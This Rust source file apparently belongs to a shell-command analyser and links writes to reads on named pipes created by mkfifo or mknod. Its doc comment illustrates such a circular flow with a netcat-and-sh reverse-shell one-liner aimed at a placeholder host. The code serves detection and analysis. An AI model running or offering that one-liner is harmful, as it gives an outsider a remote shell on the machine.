//! Named pipes that the call itself makes (mkfifo(1), mknod(1)).

use std::collections::HashMap;

use super::Evaluator;
use crate::facts::{AccessKind, Certainty, End, Flow, How};
use crate::{Host, Word};

impl<'a> Evaluator<'a> {
    /// What is written to a named pipe reaches whoever reads it, wherever in the text either stands: each waits for the
    /// other (POSIX XSH open(), `O_RDONLY`). `cat f | sh | nc host 1 > f` is a circle.
    pub(super) fn named_pipes(&mut self) {
        let makes = |by: u32| {
            let program = self.facts.invocations.get(by as usize).and_then(|one| one.program);
            program.is_some_and(|program| matches!(program.name(), "mkfifo" | "mknod"))
        };
        let mut numbers: HashMap<(Host, Word<'a>), usize> = HashMap::new();
        for made in self.facts.accesses.iter().filter(|one| one.kind == AccessKind::Write && one.by.is_some_and(makes))
        {
            let next = numbers.len();
            numbers.entry((made.host, self.normal(made.path))).or_insert(next);
        }
        if numbers.is_empty() {
            return;
        }
        let mut ends = vec![[Vec::new(), Vec::new()]; numbers.len()];
        for (number, access) in (0..).zip(&self.facts.accesses) {
            let pipe = numbers.get(&(access.host, self.normal(access.path)));
            let Some([read, written]) = pipe.and_then(|pipe| ends.get_mut(*pipe)) else { continue };
            match access.kind {
                AccessKind::Read => read.push(number),
                AccessKind::Write if !access.by.is_some_and(makes) => written.push(number),
                _ => {}
            }
        }
        for [read, written] in ends {
            for from in written {
                self.spend(read.len());
                if self.exhausted() {
                    return;
                }
                for to in &read {
                    let [from, to] = [from, *to].map(End::Access);
                    self.facts.flows.push(Flow { from, to, how: How::File, certainty: Certainty::Certain });
                }
            }
        }
    }
}
